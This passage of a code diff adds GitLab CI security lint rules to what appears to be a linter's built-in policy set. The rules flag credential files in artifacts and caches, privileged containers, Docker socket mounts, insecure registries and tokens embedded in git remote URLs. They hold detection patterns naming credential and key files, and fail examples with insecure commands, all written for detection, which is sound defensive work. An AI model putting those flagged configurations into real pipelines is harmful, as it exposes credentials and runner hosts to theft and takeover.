@@ -4613,6 +4613,276 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/gitlab/artifacts_include_credentials.plumb",
+      text: #"""
+      rule artifacts_include_credentials {
+        title "Job artifacts do not include credential files"
+        severity high
+        category security
+        tags [gitlab-ci, secrets, artifacts]
+        rationale """
+          Artifacts are uploaded to GitLab, downloadable by everyone who can read the pipeline (in public
+          projects, by anyone unless `artifacts:access` restricts them), and passed to later jobs.
+          Paths such as `.env`, `.npmrc`, `.pypirc`, `.netrc`, `.git-credentials`, `.docker/config.json`,
+          `.kube/config`/`kubeconfig`, `.aws/`, `.ssh/`, private keys (`id_rsa`, `*.pem`, `*.key`,
+          `*.p12`, `*.jks`), service-account `credentials.json`, Terraform state (`*.tfstate`) or the
+          `.git` directory (whose config can hold a remote URL with a token) hold credentials the job
+          wrote or used. Example and template files (`.env.example`) are not reported.
+        """
+        remediation "Remove the path from `artifacts:paths` (list the build outputs you need instead), keep credentials outside the project directory, and use `artifacts:exclude` for files a wildcard would catch."
+        param credential_path: pattern = "(?i)(^|/)(\\.env(\\.(?!example|sample|template|dist|defaults?)[a-z0-9_-]+)?|\\.npmrc|\\.pypirc|\\.netrc|_netrc|\\.git-credentials|\\.docker/config\\.json|\\.dockercfg|\\.kube/config|kubeconfig(\\.ya?ml)?|\\.aws(/credentials)?|\\.ssh|id_(rsa|dsa|ecdsa|ed25519)|[^/]*\\.(pem|key|p12|pfx|jks|keystore)|credentials\\.json|service[-_]account[^/]*\\.json|[^/]*\\.tfstate(\\.backup)?|\\.terraform|\\.git)/?$"
+
+        for j in gitlab.job
+        let found = filter(p in default(j.artifacts.paths, []), to_string(p) matches param.credential_path)
+        require count(found) == 0
+          else "job '${j.name}' uploads '${first(found)}' as an artifact, a file that holds credentials" at first(found)
+
+        example pass """
+          build:
+            script: [make]
+            artifacts:
+              paths:
+                - dist/
+                - .env.example
+                - reports/*.xml
+        """
+        example fail "dotenv and keys" """
+          build:
+            script: [./configure > .env]
+            artifacts:
+              paths:
+                - dist/
+                - ↓.env
+          sign:
+            script: [./sign.sh]
+            artifacts:
+              paths: [↓certs/signing.key]
+        """ expect "job 'build' uploads '.env' as an artifact" expect "job 'sign' uploads 'certs/signing.key'"
+        example fail "state, kubeconfig, .git" """
+          plan:
+            script: [terraform apply]
+            artifacts:
+              paths: [↓infra/terraform.tfstate]
+          kube:
+            script: [./get-config.sh]
+            artifacts:
+              paths: [↓$CI_PROJECT_DIR/.kube/config]
+          everything:
+            script: [make]
+            artifacts:
+              paths: [↓.git/]
+        """ expect "job 'plan'" expect "job 'kube'" expect "job 'everything'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/artifacts_untracked.plumb",
+      text: #"""
+      rule artifacts_untracked {
+        title "Job artifacts do not upload every untracked file"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, artifacts]
+        rationale """
+          `artifacts: untracked: true` uploads every file in the project directory that Git does not
+          track: besides build outputs, the credential files the job or its tools wrote (`.npmrc`,
+          `.netrc`, `.docker/config.json`, kubeconfigs, `.env`, downloaded keys, Terraform state).
+          Artifacts are readable by everyone who can read the pipeline and passed to later jobs.
+        """
+        remediation "List the outputs you need in `artifacts:paths` instead of `untracked: true`, or add `artifacts:exclude` for every credential file."
+
+        for j in gitlab.job
+        require default(j.artifacts.untracked, false) != true or count(default(j.artifacts.exclude, [])) > 0
+          else "job '${j.name}' uploads every untracked file as an artifact, credential files the job wrote included" at j.artifacts.untracked
+
+        example pass """
+          build:
+            script: [make]
+            artifacts:
+              paths: [dist/]
+          scoped:
+            script: [make]
+            artifacts:
+              untracked: true
+              exclude: [.npmrc, "**/*.key"]
+        """
+        example fail """
+          build:
+            script: [make]
+            artifacts:
+              untracked: ↓true
+              expire_in: 1 week
+        """ expect "job 'build' uploads every untracked file"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/cache_includes_credentials.plumb",
+      text: #"""
+      rule cache_includes_credentials {
+        title "Caches do not include credential files"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, cache]
+        rationale """
+          A cache is restored into later jobs and pipelines (of other branches too, when the key and
+          protection allow) and kept on runner storage: a credential file in it (`.npmrc`, `.netrc`,
+          `.docker/config.json`, `.kube/config`, `.aws/`, `.ssh/`, private keys, `.env`, Terraform
+          state, the `.git` directory) reaches every job that restores it, including jobs of merge
+          requests from people who should never see it.
+        """
+        remediation "Cache only downloaded dependencies (`node_modules/`, `.cache/pip`), never files with credentials; write credentials in the job that needs them."
+        param credential_path: pattern = "(?i)(^|/)(\\.env(\\.(?!example|sample|template|dist|defaults?)[a-z0-9_-]+)?|\\.npmrc|\\.pypirc|\\.netrc|_netrc|\\.git-credentials|\\.docker(/config\\.json)?|\\.dockercfg|\\.kube(/config)?|kubeconfig(\\.ya?ml)?|\\.aws(/credentials)?|\\.ssh|\\.gnupg|id_(rsa|dsa|ecdsa|ed25519)|[^/]*\\.(pem|key|p12|pfx|jks|keystore)|credentials\\.json|[^/]*\\.tfstate(\\.backup)?|\\.git)/?$"
+
+        for j in gitlab.job
+        let paths = flatten([default(j.cache.paths, []), flatten(map(c in default(j.cache, []), default(c.paths, [])))])
+        let found = filter(p in paths, to_string(p) matches param.credential_path)
+        require count(found) == 0
+          else "job '${j.name}' caches '${first(found)}', a file that holds credentials" at first(found)
+
+        example pass """
+          build:
+            cache:
+              key: $CI_COMMIT_REF_SLUG
+              paths: [node_modules/, .npm/]
+            script: [npm ci]
+        """
+        example fail "one cache" """
+          build:
+            cache:
+              key: deps
+              paths:
+                - vendor/
+                - ↓.npmrc
+            script: [npm ci]
+        """ expect "job 'build' caches '.npmrc', a file that holds credentials"
+        example fail "a list of caches, from default" """
+          default:
+            cache:
+              - key: go
+                paths: [.go/]
+              - key: tools
+                paths: [↓.docker/]
+          build:
+            script: [make]
+        """ expect "job 'build' caches '.docker/'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/cache_unprotected.plumb",
+      text: #"""
+      rule cache_unprotected {
+        title "Caches of protected branches are not shared with unprotected ones"
+        severity high
+        category security
+        tags [gitlab-ci, cache, artifact-integrity]
+        rationale """
+          GitLab keeps the caches of protected branches and tags apart from those of other branches, so
+          that a pipeline of a pushed branch or merge request cannot write files that a release or
+          deploy job later restores and runs (cache poisoning: a planted `node_modules/.bin` script, a
+          patched dependency, a build tool). `cache: unprotect: true` removes that separation: any
+          developer's branch (and a merge request's code) writes the cache that protected pipelines use.
+        """
+        remediation "Remove `unprotect: true`; if protected and unprotected pipelines must share downloaded dependencies, key the cache by the lock file (`key: files: [package-lock.json]`) and verify what is restored (`npm ci` checks the lock file's integrity hashes)."
+
+        for j in gitlab.job
+        let single = default(j.cache.unprotect, false) == true
+        let listed = filter(c in default(j.cache, []), default(c.unprotect, false) == true)
+        require not single
+          else "job '${j.name}' shares its cache '${default(j.cache.key, "default")}' between protected and unprotected branches: any pushed branch can poison it" at j.cache.unprotect
+        require count(listed) == 0
+          else "job '${j.name}' shares its cache '${default(first(listed).key, "default")}' between protected and unprotected branches: any pushed branch can poison it" at first(listed).unprotect
+
+        example pass """
+          build:
+            cache:
+              key: $CI_COMMIT_REF_SLUG
+              paths: [node_modules/]
+            script: [npm ci]
+        """
+        example fail "one cache" """
+          build:
+            cache:
+              key: deps
+              paths: [node_modules/]
+              unprotect: ↓true
+            script: [npm ci]
+        """ expect "job 'build' shares its cache 'deps' between protected and unprotected branches"
+        example fail "a list of caches from default" """
+          default:
+            cache:
+              - key: gems
+                paths: [vendor/ruby]
+                unprotect: ↓true
+          test:
+            script: [rake]
+        """ expect "job 'test' shares its cache 'gems'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/ci_debug_services_enabled.plumb",
+      text: #"""
+      rule ci_debug_services_enabled {
+        title "GitLab jobs do not log service containers' output"
+        severity low
+        category security
+        tags [gitlab-ci, logging, secrets]
+        rationale """
+          `CI_DEBUG_SERVICES: "true"` copies the output of every service container (databases,
+          `docker:dind`, mock servers) into the job log. Service containers receive the job's variables,
+          and their startup output often prints configuration, passwords given through variables and
+          connection strings; the job log is readable by every developer (in public projects, by anyone).
+          Reported for jobs with `services:` (for the others the variable changes nothing).
+        """
+        remediation "Remove the variable, or set it for one manual run while debugging and delete that job's log afterwards."
+
+        for j in gitlab.job
+        when count(j.services_refs) > 0
+        let pipeline = first(j -> inPipeline)
+        let job_value = default(j.variables.CI_DEBUG_SERVICES.value, j.variables.CI_DEBUG_SERVICES)
+        let global_value = default(pipeline.variables.CI_DEBUG_SERVICES.value, pipeline.variables.CI_DEBUG_SERVICES)
+        require lower(trim(to_string(default(job_value, "")))) != "true"
+          else "job '${j.name}' sets CI_DEBUG_SERVICES to true: its log shows the service containers' output" at job_value
+        require exists(job_value) or lower(trim(to_string(default(global_value, "")))) != "true"
+          else "job '${j.name}' runs with CI_DEBUG_SERVICES set to true for the whole pipeline: its log shows the service containers' output" at global_value
+
+        example pass """
+          variables:
+            CI_DEBUG_SERVICES: "false"
+          test:
+            services: [postgres:16]
+            script: [rake]
+        """
+        example pass "no services" """
+          variables:
+            CI_DEBUG_SERVICES: "true"
+          lint:
+            script: [make lint]
+        """
+        example fail "job" """
+          test:
+            variables:
+              CI_DEBUG_SERVICES: ↓"true"
+            services: [postgres:16]
+            script: [rake]
+        """ expect "job 'test' sets CI_DEBUG_SERVICES to true"
+        example fail "global, mapping form" """
+          variables:
+            CI_DEBUG_SERVICES:
+              value: ↓"TRUE"
+              description: debug services
+          test:
+            services:
+              - name: redis:7
+                alias: cache
+            script: [rake]
+        """ expect "job 'test' runs with CI_DEBUG_SERVICES set to true for the whole pipeline"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/gitlab/ci_debug_trace_enabled.plumb",
       text: #"""
       rule ci_debug_trace_enabled {
@@ -4625,7 +4895,9 @@ extension BuiltinPolicies {
           and the job's environment: every CI/CD variable, masked or not, deploy keys, cloud credentials
           and the job token end up in the job log, which every developer (and, in public projects,
           anyone) can read and which is kept as long as the job. (`CI_DEBUG_SERVICES`, which only adds
-          service containers' own logs, is not reported.)
+          service containers' own logs, is reported by `ci_debug_services_enabled`.) Reported wherever the
+          file sets variables: the job's and the pipeline's `variables:`, a job's `rules: variables:` and
+          `workflow: rules: variables:`.
         """
         remediation "Remove the variable from the file (the fix does; it changes nothing but the log); to debug a job, set `CI_DEBUG_TRACE` for one manual pipeline run and restrict who can read its log."
 
@@ -4641,6 +4913,14 @@ extension BuiltinPolicies {
         require count(job_on) > 0 or count(global_on) == 0
           else "job '${j.name}' runs with ${first(global_on)} set to true for the whole pipeline: its log shows every variable, masked ones included" at default(pipeline.variables[first(global_on)].value, pipeline.variables[first(global_on)])
           fix { remove pipeline.variables["CI_DEBUG_TRACE"] }
+        let rule_on = filter(r in j.rules_list,
+          lower(trim(to_string(default(default(r.variables.CI_DEBUG_TRACE.value, r.variables.CI_DEBUG_TRACE), "")))) == "true")
+        let workflow_on = filter(r in default(pipeline.workflow.rules, []),
+          lower(trim(to_string(default(default(r.variables.CI_DEBUG_TRACE.value, r.variables.CI_DEBUG_TRACE), "")))) == "true")
+        require count(rule_on) == 0
+          else "a rule of job '${j.name}' sets CI_DEBUG_TRACE to true: when it matches, the log shows every variable, masked ones included" at default(first(rule_on).variables.CI_DEBUG_TRACE.value, first(rule_on).variables.CI_DEBUG_TRACE)
+        require count(workflow_on) == 0
+          else "a workflow rule sets CI_DEBUG_TRACE to true for job '${j.name}': when it matches, the log shows every variable, masked ones included" at default(first(workflow_on).variables.CI_DEBUG_TRACE.value, first(workflow_on).variables.CI_DEBUG_TRACE)
 
         example pass """
           variables:
@@ -4662,6 +4942,20 @@ extension BuiltinPolicies {
           test:
             script: [rake]
         """ expect "job 'test' runs with CI_DEBUG_TRACE set to true for the whole pipeline"
+        example fail "rules: variables and workflow: rules: variables" """
+          workflow:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "web"
+                variables:
+                  CI_DEBUG_TRACE: ↓"true"
+              - when: always
+          deploy:
+            rules:
+              - if: $DEBUG_DEPLOY
+                variables:
+                  CI_DEBUG_TRACE: ↓"true"
+            script: [./deploy.sh]
+        """ expect "a rule of job 'deploy' sets CI_DEBUG_TRACE to true" expect "a workflow rule sets CI_DEBUG_TRACE to true for job 'deploy'"
       }
 
       """#),
@@ -4739,6 +5033,362 @@ extension BuiltinPolicies {
             stage: deploy
             script: [./publish.sh]
         """ expect "a rule of deploy job 'deploy-prod' (environment 'production', stage 'deploy') lets it run for branches and merge requests: '$CI_MERGE_REQUEST_IID' does not require" expect "deploy job 'publish' (environment 'none', stage 'deploy') has no rules"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/deploy_restricted_by_branch_pattern.plumb",
+      text: #"""
+      rule deploy_restricted_by_branch_pattern {
+        title "Production deploy jobs are not restricted by a branch-name pattern alone"
+        severity medium
+        category security
+        tags [gitlab-ci, deployment, flow-control]
+        rationale """
+          A rule such as `$CI_COMMIT_BRANCH =~ /^release\//` or `only: [/^release-.*$/]` lets a deploy run
+          for every branch whose name matches, and anyone who can push a branch chooses its name: a
+          developer (or a compromised account) pushes `release/x` and unreviewed code reaches production
+          with the production credentials. Only protected refs, the default branch or tags are
+          controlled by the project's protection settings. Reported: deploy jobs (environment named like
+          production, or a deploy-like stage without an environment) with a rule or `only:` entry that
+          matches branch names by pattern without also requiring `$CI_COMMIT_REF_PROTECTED == "true"`.
+          Protected environments, set outside the file, are a second line of defence this rule cannot
+          see.
+        """
+        remediation "Protect the branches the pattern is meant for, and add `$CI_COMMIT_REF_PROTECTED == \"true\"` to the rule (`if: $CI_COMMIT_BRANCH =~ /^release\\// && $CI_COMMIT_REF_PROTECTED == \"true\"`), or restrict the job to the default branch or tags."
+        param production: pattern = "(?i)(^|[/_-])(prod|production|live)([/_-]|$)"
+        param deploy_stage: pattern = "(?i)^(deploy|production|release)([/_-].*)?$"
+
+        for j in gitlab.job
+        let env = to_string(default(j.environment_name, ""))
+        when env matches param.production or (env == "" and to_string(j.stage) matches param.deploy_stage)
+        let patterned = filter(r in j.rules_list, to_string(default(r.when, "")) != "never"
+          and to_string(default(r["if"], "")) matches "\\$CI_(COMMIT_BRANCH|COMMIT_REF_NAME|MERGE_REQUEST_SOURCE_BRANCH_NAME)\\s*=~"
+          and not (to_string(default(r["if"], "")) matches "\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true"))
+        let only = default(j.only.refs, j.only)
+        let only_patterns = filter(o in default(only, []), to_string(o) matches "^/.+/[a-z]*$")
+        require count(patterned) == 0
+          else "deploy job '${j.name}' runs for any branch whose name matches '${first(patterned)["if"]}': whoever pushes a branch chooses its name" at first(patterned)["if"]
+        require count(only_patterns) == 0
+          else "deploy job '${j.name}' runs for any ref matching '${first(only_patterns)}': whoever pushes a branch chooses its name" at first(only_patterns)
+
+        example pass """
+          deploy-prod:
+            stage: deploy
+            environment: production
+            rules:
+              - if: $CI_COMMIT_BRANCH =~ /^release\// && $CI_COMMIT_REF_PROTECTED == "true"
+              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
+            script: [./deploy.sh]
+          lint:
+            rules:
+              - if: $CI_COMMIT_BRANCH =~ /^feature/
+            script: [make lint]
+        """
+        example fail "rules: if with =~" """
+          deploy-prod:
+            stage: deploy
+            environment:
+              name: production
+            rules:
+              - if: ↓$CI_COMMIT_BRANCH =~ /^release\/.*$/
+            script: [./deploy.sh]
+        """ expect "deploy job 'deploy-prod' runs for any branch whose name matches '$CI_COMMIT_BRANCH =~ /^release\\/.*$/'"
+        example fail "only: with a regular expression" """
+          publish:
+            stage: deploy
+            only:
+              - ↓/^release-.*$/
+            script: [./publish.sh]
+          live:
+            stage: deploy
+            environment: live
+            only:
+              refs:
+                - ↓/^hotfix-/i
+            script: [./deploy.sh]
+        """ expect "deploy job 'publish' runs for any ref matching '/^release-.*$/'" expect "deploy job 'live'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/docker_dind_tls_disabled.plumb",
+      text: #"""
+      rule docker_dind_tls_disabled {
+        title "Docker-in-Docker services use TLS"
+        severity medium
+        category security
+        tags [gitlab-ci, insecure-configuration, containers]
+        rationale """
+          A `docker:dind` service started with `DOCKER_TLS_CERTDIR: ""` (or reached at
+          `DOCKER_HOST: tcp://…:2375`) serves the Docker API without TLS or authentication. Every
+          process that can reach the service's port (other services of the job, and on Kubernetes and
+          host-networked runners other pods and jobs on the node) controls a privileged daemon: it can
+          start containers with the host's devices, read the images being built and the registry
+          credentials used to push them.
+        """
+        remediation "Remove `DOCKER_TLS_CERTDIR: \"\"` (the image then creates certificates in `/certs`), set `DOCKER_HOST: tcp://docker:2376` and `DOCKER_TLS_VERIFY: 1` with `DOCKER_CERT_PATH: /certs/client`."
+
+        for j in gitlab.job
+        let pipeline = first(j -> inPipeline)
+        when any(s in j.services_refs, to_string(default(s.expanded, s.raw)) matches "(?i)dind")
+        let certdir = default(j.variables.DOCKER_TLS_CERTDIR, pipeline.variables.DOCKER_TLS_CERTDIR)
+        let certdir_value = default(certdir.value, certdir)
+        let host = default(j.variables.DOCKER_HOST, pipeline.variables.DOCKER_HOST)
+        let host_value = default(host.value, host)
+        require not (exists(certdir_value) and trim(to_string(default(certdir_value, "x"))) == "")
+          else "job '${j.name}' runs a Docker-in-Docker service with DOCKER_TLS_CERTDIR empty: its daemon accepts unauthenticated, unencrypted connections" at certdir_value
+        require not (to_string(default(host_value, "")) matches "^tcp://[^/]+:2375/?$")
+          else "job '${j.name}' talks to Docker-in-Docker at '${host_value}', the port without TLS" at host_value
+
+        example pass """
+          build:
+            image: docker:27
+            services: [docker:27-dind]
+            variables:
+              DOCKER_HOST: tcp://docker:2376
+              DOCKER_TLS_CERTDIR: /certs
+            script: [docker build .]
+          lint:
+            variables:
+              DOCKER_TLS_CERTDIR: ""
+            script: [make lint]
+        """
+        example fail "certdir empty" """
+          build:
+            image: docker:27
+            services:
+              - name: docker:27-dind
+                alias: docker
+            variables:
+              DOCKER_TLS_CERTDIR: ↓""
+            script: [docker build .]
+        """ expect "job 'build' runs a Docker-in-Docker service with DOCKER_TLS_CERTDIR empty"
+        example fail "global port 2375" """
+          variables:
+            DOCKER_HOST: ↓tcp://docker:2375
+          build:
+            services: [docker:dind]
+            script: [docker build .]
+        """ expect "job 'build' talks to Docker-in-Docker at 'tcp://docker:2375'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/docker_insecure_registry.plumb",
+      text: #"""
+      rule docker_insecure_registry {
+        title "Container registries are not reached over plain HTTP or unchecked TLS"
+        severity medium
+        category security
+        tags [gitlab-ci, insecure-configuration, containers]
+        rationale """
+          `--insecure-registry` on a `docker:dind` service (its `command:`) or a daemon started in the
+          script, kaniko's `--insecure`/`--insecure-pull`/`--insecure-registry`, `buildah`/`crane`
+          `--insecure` and `docker pull`/`push` of `http://` registries let the images a job pulls and
+          pushes travel unencrypted or without a checked certificate: whoever sits on the network path
+          swaps base images, reads the registry credentials, and replaces what is pushed.
+        """
+        remediation "Serve the registry over TLS with a certificate the runner trusts (mount the CA into `/etc/docker/certs.d/<registry>/ca.crt`), and drop the insecure flags."
+        param insecure: pattern = "(--insecure-registry(=|\\s)|\\b(executor|kaniko|/kaniko/executor)\\b[^\\n]*\\s--insecure(-pull)?\\b|\\b(buildah|crane|regctl)\\b[^\\n]*\\s--insecure\\b|\\b(docker|podman)\\s+(pull|push|login)\\s+(-\\S+\\s+)*http://)"
+
+        for j in gitlab.job
+        let service_bad = filter(s in default(j.services, []), any(c in flatten([default(s.command, [])]), to_string(c) matches param.insecure))
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.insecure))
+        require count(service_bad) == 0
+          else "job '${j.name}' starts service '${first(service_bad).name}' with an insecure registry" at first(service_bad).command
+        require count(lines) == 0
+          else "job '${j.name}' uses a container registry without TLS checks: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.insecure)))}'" at first(lines)
+
+        example pass """
+          build:
+            services:
+              - name: docker:27-dind
+                command: ["--registry-mirror=https://mirror.example.com"]
+            script:
+              - /kaniko/executor --context . --destination "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"
+        """
+        example fail "dind command" """
+          build:
+            services:
+              - name: docker:27-dind
+                command: ↓["--insecure-registry=registry.internal:5000"]
+            script: [docker build .]
+        """ expect "job 'build' starts service 'docker:27-dind' with an insecure registry"
+        example fail "kaniko and buildah" """
+          kaniko:
+            script:
+              - ↓/kaniko/executor --context . --destination registry.internal/app --insecure
+          buildah:
+            script:
+              - ↓buildah push --insecure app registry.internal/app
+        """ expect "job 'kaniko' uses a container registry without TLS checks" expect "job 'buildah'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/docker_login_password_argument.plumb",
+      text: #"""
+      rule docker_login_password_argument {
+        title "Registry logins read the password from standard input"
+        severity low
+        category security
+        tags [gitlab-ci, secrets, containers]
+        rationale """
+          `docker login -p "$PASSWORD"` (also `podman`, `buildah`, `skopeo`, `helm registry`, `oras`,
+          `crane auth`) puts the password on the command line: other processes on the runner host see it
+          in the process list, shells may keep it in history, and tracing (`set -x`, `CI_DEBUG_TRACE`)
+          prints it; Docker itself warns. `--password-stdin` keeps it off the command line.
+        """
+        remediation "Pipe the password in: `echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\"`."
+        param login: pattern = "\\b(docker|podman|buildah|skopeo|nerdctl|oras|helm\\s++registry|crane\\s++auth)\\s++login\\b[^\\n|]*?\\s(-p|--password)(=|\\s)"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.login))
+        require count(lines) == 0
+          else "job '${j.name}' passes a registry password on the command line: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.login)))}'" at first(lines)
+
+        example pass """
+          build:
+            script:
+              - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
+              - podman login --username "$USER" --password-stdin registry.example.com < pw.txt
+        """
+        example fail "-p and --password=" """
+          build:
+            script:
+              - ↓docker login -u $CI_REGISTRY_USER -p $CI_REGISTRY_PASSWORD $CI_REGISTRY
+          mirror:
+            script:
+              - ↓skopeo login --username bot --password="$MIRROR_PASSWORD" quay.io
+        """ expect "job 'build' passes a registry password on the command line" expect "job 'mirror'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/docker_run_privileged.plumb",
+      text: #"""
+      rule docker_run_privileged {
+        title "Job scripts do not start privileged containers"
+        severity medium
+        category security
+        tags [gitlab-ci, insecure-configuration, containers]
+        rationale """
+          `docker run --privileged` (also `podman`, `nerdctl`), `--cap-add=ALL`/`SYS_ADMIN`,
+          `--pid=host`, `--security-opt seccomp=unconfined`/`apparmor=unconfined` or `--device` of the
+          host's disks give the container the powers of root on the machine that runs it: code in the
+          image (or the build context, or a dependency) escapes to the runner host, where it reads other
+          jobs' files, caches and credentials and persists for later jobs.
+        """
+        remediation "Run the container unprivileged with only the capability it needs (`--cap-add NET_ADMIN`), or build images with rootless tools (kaniko, buildah, BuildKit rootless)."
+        param privileged: pattern = "\\b(docker|podman|nerdctl)\\s+(container\\s+)?(run|create|exec)\\b[^\\n]*\\s(--privileged(=true)?(?!=false)\\b|--cap-add[= ](ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE)\\b|--pid[= ]host\\b|--security-opt[= ][\"']?(seccomp|apparmor)[=:]unconfined\\b|--userns[= ]host\\b)"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.privileged))
+        require count(lines) == 0
+          else "job '${j.name}' starts a container with the host's privileges: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.privileged)))}'" at first(lines)
+
+        example pass """
+          test:
+            script:
+              - docker run --rm --cap-add NET_ADMIN app:test ./net-test
+              - docker run --rm -e PRIVILEGED=1 app:test
+        """
+        example fail "privileged" """
+          test:
+            script:
+              - ↓docker run --rm --privileged -v "$PWD:/src" builder make
+        """ expect "job 'test' starts a container with the host's privileges"
+        example fail "capabilities, pid namespace, seccomp" """
+          a:
+            script: [↓podman run --cap-add=SYS_ADMIN img]
+          b:
+            script: [↓docker container run --pid=host img]
+          c:
+            script: [↓docker run --security-opt seccomp=unconfined img]
+        """ expect "job 'a'" expect "job 'b'" expect "job 'c'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/docker_socket_mounted.plumb",
+      text: #"""
+      rule docker_socket_mounted {
+        title "Job scripts do not mount the Docker socket into containers"
+        severity medium
+        category security
+        tags [gitlab-ci, insecure-configuration, containers]
+        rationale """
+          A container started with `-v /var/run/docker.sock:/var/run/docker.sock` (or `--mount
+          …source=/var/run/docker.sock`, `/run/docker.sock`, `containerd.sock`) controls the daemon that
+          runs it: it can start a privileged container with the host's root filesystem, so whatever
+          runs in the image (or its dependencies) owns the runner host, its other jobs and their
+          credentials.
+        """
+        remediation "Build with a rootless tool (kaniko, buildah, BuildKit rootless) or a `docker:dind` service with TLS, instead of handing the host's daemon to a container."
+        param socket: pattern = "\\b(docker|podman|nerdctl)\\s+(container\\s+)?(run|create)\\b[^\\n]*(-v|--volume|--mount)[= ]\\S*(/var)?/run/(docker|containerd/containerd|podman/podman)\\.sock\\b"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.socket))
+        require count(lines) == 0
+          else "job '${j.name}' mounts the container daemon's socket into a container: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.socket)))}'" at first(lines)
+
+        example pass """
+          build:
+            script:
+              - docker run --rm -v "$PWD:/src" -w /src golang:1.23 go build ./...
+        """
+        example fail "-v and --mount" """
+          scan:
+            script:
+              - ↓docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app
+          build:
+            script:
+              - ↓docker run --mount type=bind,source=/run/docker.sock,target=/run/docker.sock builder
+        """ expect "job 'scan' mounts the container daemon's socket" expect "job 'build'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/git_credentials_in_remote_url.plumb",
+      text: #"""
+      rule git_credentials_in_remote_url {
+        title "Git remotes are not given credentials in their URL"
+        severity medium
+        category security
+        tags [gitlab-ci, secrets, credentials]
+        rationale """
+          `git clone https://user:$TOKEN@host/repo.git` (and `git remote add`/`set-url`, `git submodule
+          add`) writes the token into `.git/config` of the clone, where it outlives the command: it is
+          uploaded with caches and artifacts that include the directory, left on the runner's disk for
+          later jobs of shell and long-lived executors, and printed by anything that shows the remote.
+          `$CI_JOB_TOKEN`, which expires with the job, is not reported; personal, project and deploy
+          tokens are.
+        """
+        remediation "Pass the token through a credential helper or header instead (`git -c http.extraHeader=\"Authorization: Bearer $TOKEN\" clone …`, or `git config --global credential.helper` with `GIT_ASKPASS`), or use `$CI_JOB_TOKEN`."
+        param persisted: pattern = "\\bgit\\s++(?:-c\\s++\\S++\\s++|-\\S++\\s++)*+(clone|remote\\s++(add|set-url)|submodule\\s++add)\\b[^\\n]*?://[^\\s/@'\"]*\\$\\{?(?!CI_JOB_TOKEN\\b)[A-Za-z_][A-Za-z0-9_]*\\}?[^\\s/@'\"]*@"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.persisted))
+        require count(lines) == 0
+          else "job '${j.name}' puts a credential into a Git remote URL, where .git/config keeps it: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.persisted)))}'" at first(lines)
+
+        example pass """
+          sync:
+            script:
+              - git clone "https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/acme/tools.git"
+              - git -c http.extraHeader="Authorization: Bearer $DEPLOY_TOKEN" clone https://gitlab.example.com/acme/app.git
+              - git push "https://oauth2:${PUSH_TOKEN}@gitlab.example.com/acme/app.git" HEAD:main
+        """
+        example fail "clone and set-url" """
+          mirror:
+            script:
+              - ↓git clone https://oauth2:$GITLAB_TOKEN@gitlab.example.com/acme/app.git
+              - cd app
+          push:
+            script:
+              - ↓git remote set-url origin "https://${GH_TOKEN}@github.com/acme/app.git"
+        """ expect "job 'mirror' puts a credential into a Git remote URL" expect "job 'push'"
       }
 
       """#),
@@ -4847,6 +5497,70 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/gitlab/id_token_generic_audience.plumb",
+      text: #"""
+      rule id_token_generic_audience {
+        title "GitLab ID tokens name the service they are for"
+        severity medium
+        category security
+        tags [gitlab-ci, identity, oidc]
+        rationale """
+          An `id_tokens:` entry mints an OIDC token whose `aud` claim says which service may accept it.
+          A generic audience (the GitLab instance itself, `$CI_SERVER_URL`, `https://gitlab.com`, or a
+          wildcard) is accepted by every relying party configured with that default, so a token minted
+          for one cloud role or Vault can be replayed at another: whoever can read the token (any
+          script, image or dependency the job runs) reaches all of them. An entry without `aud` is an
+          error in GitLab and is reported too.
+        """
+        remediation "Give each token the audience of the one service that consumes it (`aud: https://vault.example.com`, `aud: sts.amazonaws.com`), and configure that service to accept only it."
+        param generic: pattern = "^\\s*(\\$\\{?CI_SERVER_(URL|HOST|FQDN)\\}?/?|https?://(www\\.)?gitlab\\.com/?|gitlab\\.com|.*\\*.*)\\s*$"
+
+        for j in gitlab.job
+        let tokens = keys(default(j.id_tokens, {}))
+        when count(tokens) > 0
+        let missing = filter(t in tokens, not exists(j.id_tokens[t].aud))
+        let generic = filter(t in tokens, any(a in flatten([j.id_tokens[t].aud]), to_string(a) matches param.generic))
